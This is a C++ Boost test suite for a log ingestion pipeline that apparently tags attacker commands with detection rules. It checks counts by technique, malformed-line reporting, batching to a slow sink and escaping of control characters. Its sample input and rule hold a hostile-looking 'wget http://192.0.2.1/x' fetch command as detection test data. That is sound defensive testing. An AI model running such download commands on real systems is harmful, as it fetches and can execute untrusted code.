#include "host/ingest.hpp"

#include "support/definitions.hpp"
#include "support/temporary_directory.hpp"
#include "support/virtual_loop.hpp"

#include <boost/asio/co_spawn.hpp>

#include <algorithm>
#include <string>
#include <vector>

using namespace rulehost;
namespace asio = boost::asio;

namespace {

/// Keeps what it is given; takes `delay` for each batch, and fails when it is `broken`.
class collecting_sink final : public tag_sink {
public:
    explicit collecting_sink(time_source& time) : time_(time) {}

    asio::awaitable<void> write(std::vector<tag> const& tags) override {
        if (broken)
            throw std::runtime_error("disk full");
        ++writing;
        most_at_once = std::max(most_at_once, writing);
        if (delay.count() > 0)
            co_await time_.sleep_until(time_.now() + delay);
        --writing;
        collected.insert(collected.end(), tags.begin(), tags.end());
    }

    std::vector<tag> collected;
    duration delay{};
    bool broken = false;
    int writing = 0;
    int most_at_once = 0;

private:
    time_source& time_;
};

struct ingesting : test::virtual_loop {
    ingesting() {
        rule_snapshot snapshot;
        snapshot.revision = 1;
        snapshot.rules.push_back(
            std::make_shared<compiled_rule>(test::rule_matching("{pattern: wget}"), rule_state{}));
        rules.replace(snapshot);
    }

    void ingest_text(std::string const& text) {
        directory.write("log", text);
        auto input = byte_stream::reading(loop.get_executor(), time, (directory / "log").string(),
                                          byte_stream::at_end::stop);
        event_reader reader(event_format::event);
        ingest_pipeline const pipeline{rules, time, {&sink}, {}};
        std::exception_ptr problem;
        bool done = false;
        asio::co_spawn(loop, ingest(input, reader, pipeline, summary), [&](std::exception_ptr e) {
            problem = e;
            done = true;
        });
        time.advance(std::chrono::hours{1});
        BOOST_REQUIRE(done);
        if (problem)
            std::rethrow_exception(problem);
    }

    static std::string line(int number, std::string const& text = "wget http://192.0.2.1/x") {
        return R"({"source_kind":"command","source_id":"c)" + std::to_string(number)
            + R"(","attacker_uuid":"a","payload":{"command_text":")" + text + "\"}}\n";
    }

    test::temporary_directory directory;
    engine rules;
    collecting_sink sink{time};
    ingest_summary summary;
};

} // namespace

BOOST_FIXTURE_TEST_SUITE(ingestion, ingesting)

BOOST_AUTO_TEST_CASE(every_line_is_evaluated_and_counted_by_technique) {
    ingest_text(line(1) + line(2, "ls") + line(3));
    BOOST_TEST(summary.lines == 3u);
    BOOST_TEST(summary.events == 3u);
    BOOST_TEST(summary.tags == 2u);
    BOOST_TEST(summary.tags_by_technique.at("T1105") == 2u);
    BOOST_REQUIRE_EQUAL(sink.collected.size(), 2u);
    BOOST_TEST(sink.collected[1].source_id == "c3");
}

BOOST_AUTO_TEST_CASE(last_line_without_a_line_break_counts) {
    auto text = line(1);
    text.pop_back();
    ingest_text(text);
    BOOST_TEST(sink.collected.size() == 1u);
}

BOOST_AUTO_TEST_CASE(bad_lines_are_told_by_number_and_spoil_nothing) {
    ingest_text(line(1) + "{\n" + std::string(2 * 1024 * 1024, 'x') + "\n"
                + "{\"source_kind\":\"command\",\"source_id\":\"x\",\"payload\":{}}\n" + line(2));
    BOOST_TEST(sink.collected.size() == 2u);
    BOOST_TEST(summary.bad_lines == 3u);
    BOOST_REQUIRE_EQUAL(summary.first_bad_lines.size(), 3u);
    BOOST_TEST(summary.first_bad_lines[0].line == 2u);
    BOOST_TEST(summary.first_bad_lines[1].line == 3u);
    BOOST_TEST(summary.first_bad_lines[1].reason == "longer than 1 MiB");
    BOOST_TEST(summary.first_bad_lines[2].line == 4u);
}

BOOST_AUTO_TEST_CASE(report_of_bad_lines_is_bounded) {
    std::string text;
    for (int number = 0; number < 1000; ++number)
        text += "nonsense\n";
    ingest_text(text);
    BOOST_TEST(summary.bad_lines == 1000u);
    BOOST_TEST(summary.first_bad_lines.size() == ingest_summary::most_reported_lines);
    BOOST_TEST(to_text(summary).find("990 more bad lines") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(slow_sink_gets_one_batch_at_a_time_and_all_of_them_in_order) {
    std::string text;
    for (int number = 0; number < 3000; ++number)
        text += line(number);
    sink.delay = std::chrono::seconds{1};
    ingest_text(text);
    BOOST_TEST(sink.most_at_once == 1);
    BOOST_REQUIRE_EQUAL(sink.collected.size(), 3000u);
    for (int number = 0; number < 3000; ++number)
        BOOST_REQUIRE_EQUAL(sink.collected[static_cast<std::size_t>(number)].source_id, "c" + std::to_string(number));
}

BOOST_AUTO_TEST_CASE(failing_sink_fails_the_ingestion) {
    sink.broken = true;
    BOOST_CHECK_EXCEPTION(ingest_text(line(1)), std::runtime_error,
                          [](auto const& error) { return std::string(error.what()) == "disk full"; });
}

BOOST_AUTO_TEST_CASE(summary_escapes_what_came_from_outside) {
    summary.first_bad_lines.push_back({"log", 7, "\x1b[2J"});
    summary.bad_lines = 1;
    BOOST_TEST(to_text(summary).find('\x1b') == std::string::npos);
}

BOOST_AUTO_TEST_SUITE_END()
